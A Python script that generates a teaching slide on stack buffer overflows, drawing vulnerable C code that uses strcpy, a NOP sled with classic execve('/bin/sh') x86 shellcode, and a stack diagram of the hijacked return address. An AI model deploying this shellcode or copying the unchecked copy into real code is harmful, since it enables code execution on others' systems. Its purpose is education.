
from lxml import etree
from pptx import Presentation
from pptx import util as u
from pptx.dml.color import RGBColor
from pptx.enum import shapes, text
from pptx.oxml import ns

COLORS = {"ink": "000000", "attack": "FF0000"}
FONT = "Arial"
LINE_HEIGHT = 1.2
LINE_WIDTH = u.Pt(0.75)

MESSAGE = "\v".join([
    r"    char *msg =",
    *[r"       “" + r"\x90" * 16 + "”"] * 2,
    r"        “\xeb\x1f\x5e\x89\x76\x08\x31\xc0\x88\x46\x07\x89\x46\x0c\xb0\x0b”",
    r'        "\x89\xf3\x8d\x4e\x08\x8d\x56\x0c\xcd\x80\x31\xdb\x89\xd8\x40\xcd“',
    r'        "\x80\xe8\xdc\xff\xff\xff/bin/shAAAABBBB";',
])
# Each block of code is set off from the one before by one line of space
CODE_BLOCKS = [
    ["#include <stdio.h>", "#include <string.h>"],
    ["void do_something(char *from) {", "    char to[256];",
     "    strcpy(to , from);", "}"],
    ["int main( int argc, char **argv)", "{", MESSAGE],
    ["    do_something(msg);"],
    ["    return 0;", "}"],
]
STACK_CODE = [
    r'"\xeb\x1f\x5e\x89\x76\x08\x31\xc0\x88\x46\x07\x89\x46\x0c\xb0\x0b”',
    r'"\x89\xf3\x8d\x4e\x08\x8d\x56\x0c\xcd\x80\x31\xdb\x89\xd8\x40\xcd“',
    r'"\x80\xe8\xdc\xff\xff\xff/bin/sh";',
]
NOP_ROWS = [r"\x90 \x90 \x90 \x90"] * 5


def color(name):
    return RGBColor.from_string(COLORS[name])


def inches(*values):
    return [u.Inches(value) for value in values]


def style_paragraph(paragraph, size, ink, before=0):
    paragraph.line_spacing = u.Pt(size * LINE_HEIGHT)
    paragraph.space_before = u.Pt(before)
    for run in paragraph.runs:
        run.font.name = FONT
        run.font.size = u.Pt(size)
        run.font.color.rgb = color(ink)


def add_text(slide, box, lines, size, ink, gap=0, wrap=True):
    frame = slide.shapes.add_textbox(*inches(*box)).text_frame
    frame.word_wrap = wrap
    if not wrap:
        frame.auto_size = text.MSO_AUTO_SIZE.SHAPE_TO_FIT_TEXT
    frame.text = "\n".join(lines)
    for index, paragraph in enumerate(frame.paragraphs):
        style_paragraph(paragraph, size, ink, gap if index else 0)
    return frame


def add_line(slide, start, end, arrow=False):
    line = slide.shapes.add_connector(
        shapes.MSO_CONNECTOR.STRAIGHT, *inches(*start, *end))
    line.line.color.rgb = color("ink")
    line.line.width = LINE_WIDTH
    properties = line._element.spPr
    etree.SubElement(properties, ns.qn("a:effectLst"))
    if arrow:
        outline = properties.find(ns.qn("a:ln"))
        etree.SubElement(outline, ns.qn("a:tailEnd"), type="triangle")


def style_outline(shape):
    shape.shadow.inherit = False
    shape.fill.background()
    shape.line.color.rgb = color("ink")
    shape.line.width = LINE_WIDTH


def add_curve(slide, points):
    """Draw a chain of cubic curves: a start, then three points per curve."""
    start, *rest = [inches(*point) for point in points]
    builder = slide.shapes.build_freeform(*start)
    builder.add_line_segments(rest, close=False)
    curve = builder.convert_to_shape()
    style_outline(curve)
    segments = list(curve._element.iter(ns.qn("a:lnTo")))
    for first in range(0, len(segments), 3):
        group = segments[first:first + 3]
        bezier = etree.Element(ns.qn("a:cubicBezTo"))
        group[0].addprevious(bezier)
        for segment in group:
            bezier.append(segment[0])
            segment.getparent().remove(segment)


def place_title(slide, box):
    title = slide.shapes.title
    title.left, title.top, title.width, title.height = inches(*box)
    frame = title.text_frame
    frame.text = "Overflows"
    frame.vertical_anchor = text.MSO_ANCHOR.MIDDLE
    paragraph = frame.paragraphs[0]
    paragraph.alignment = text.PP_ALIGN.CENTER
    style_paragraph(paragraph, 44, "ink")


def place_code(slide, box):
    size = 12
    lines = [line for block in CODE_BLOCKS for line in block]
    frame = add_text(slide, box, lines, size, "ink")
    block_starts = [block[0] for block in CODE_BLOCKS[1:]]
    for paragraph, line in zip(frame.paragraphs, lines):
        if line in block_starts:
            paragraph.space_before = u.Pt(size * LINE_HEIGHT)
        if line == MESSAGE:
            style_paragraph(paragraph, size, "attack")


def place_stack(slide, box):
    left, top, width, height = box
    right = left + width

    # Outline and cell borders
    style_outline(slide.shapes.add_shape(
        shapes.MSO_SHAPE.ROUNDED_RECTANGLE, *inches(*box)))
    for offset in (0.34, 0.75, 1.17, 3.5, 4.92):
        add_line(slide, (left, top + offset), (right, top + offset))

    # Cell contents
    add_text(slide, (left + 0.25, top + 0.42, 1.11, 0.3),
             ["0xc0a104b0"], 12, "attack", wrap=False)
    add_text(slide, (left + 0.42, top + 0.84, 0.65, 0.3),
             ["AAAA"], 12, "attack", wrap=False)
    add_text(slide, (left + 0.17, top + 1.34, 1.4, 2.11),
             STACK_CODE, 10, "attack", gap=12)
    add_text(slide, (left + 0.17, top + 3.59, 1.42, 1.28),
             NOP_ROWS, 10, "attack", gap=6.2)

    # Address beside the bottom cell
    add_text(slide, (left - 1.19, top + 4.79, 1.11, 0.3),
             ["0xc0a104??"], 12, "ink", wrap=False)

    # Jump from the return address back into the filler rows
    jump = [(0.15, 0.67), (-0.23, 0.6), (-0.61, 0.53), (-0.76, 1),
            (-0.92, 1.48), (-0.9, 2.99), (-0.76, 3.5),
            (-0.62, 4.02), (-0.28, 4.05), (0.07, 4.09)]
    add_curve(slide, [(left + x, top + y) for x, y in jump])
    add_line(slide, (left + 0.08, top + 4.09), (left + 0.17, top + 4.09),
             arrow=True)


def main():
    presentation = Presentation()
    presentation.slide_width, presentation.slide_height = inches(10, 7.5)
    title_only = presentation.slide_layouts[5]
    slide = presentation.slides.add_slide(title_only)
    place_title(slide, (0.5, 0.3, 9, 1.25))
    place_code(slide, (0.58, 2, 5.83, 4.61))
    place_stack(slide, (7.25, 1.83, 1.75, 5.33))
    presentation.save("out.pptx")


if __name__ == "__main__":
    main()
